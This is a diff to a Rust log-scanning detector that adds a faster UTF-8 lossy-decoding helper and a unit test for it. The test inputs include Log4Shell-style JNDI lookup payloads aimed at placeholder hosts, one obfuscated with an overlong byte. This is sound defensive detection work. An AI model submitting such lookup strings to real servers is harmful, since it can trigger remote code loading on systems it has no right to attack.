@@ -174,7 +174,7 @@ impl Hunter {
     /// Evaluates one candidate line: hits kept and the number suppressed.
     fn line_hits(&self, line: &[u8], line_number: u64, byte_offset: u64) -> (Vec<Hit>, u64) {
         let line = line.strip_suffix(b"\r").unwrap_or(line);
-        let text = String::from_utf8_lossy(line);
+        let text = utf8_lossy(line);
         let mut findings: Vec<(classify::Finding, u8)> = Vec::new();
         if let Some(trace) = classify::post_exploitation(&text) {
             findings.push((trace, 0));
@@ -183,7 +183,7 @@ impl Hunter {
         // Without escapes (most lines) the decoded text is the line: no second UTF-8 check.
         let decoded = match &decoded {
             Cow::Borrowed(_) => Cow::Borrowed(text.as_ref()),
-            Cow::Owned(bytes) => String::from_utf8_lossy(bytes),
+            Cow::Owned(bytes) => utf8_lossy(bytes),
         };
         for finding in self.evaluate_windows(&decoded) {
             if !findings.iter().any(|(f, _)| *f == finding) {
@@ -271,9 +271,31 @@ impl Hunter {
     }
 }
 
+/// `String::from_utf8_lossy`, with the validation of `str::from_utf8` first: it checks ASCII a
+/// word at a time, where the lossy scan goes byte by byte, and nearly every line is valid.
+fn utf8_lossy(bytes: &[u8]) -> Cow<'_, str> {
+    match std::str::from_utf8(bytes) {
+        Ok(text) => Cow::Borrowed(text),
+        Err(_) => String::from_utf8_lossy(bytes),
+    }
+}
+
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    #[test]
+    fn lossy_text_is_the_standard_one() {
+        for bytes in [
+            &b""[..],
+            b"plain ascii ${jndi:ldap://a.example/x}",
+            "caf\u{e9} \u{1F600}".as_bytes(),
+            b"cut \xe2\x82",
+            b"\xff\xfe${jndi:\xc0\xafldap://b.example/}",
+        ] {
+            assert_eq!(utf8_lossy(bytes), String::from_utf8_lossy(bytes));
+        }
+    }
 
     fn one(line: &str) -> Hit {
         let hits = Hunter::default().scan_line(line.as_bytes());
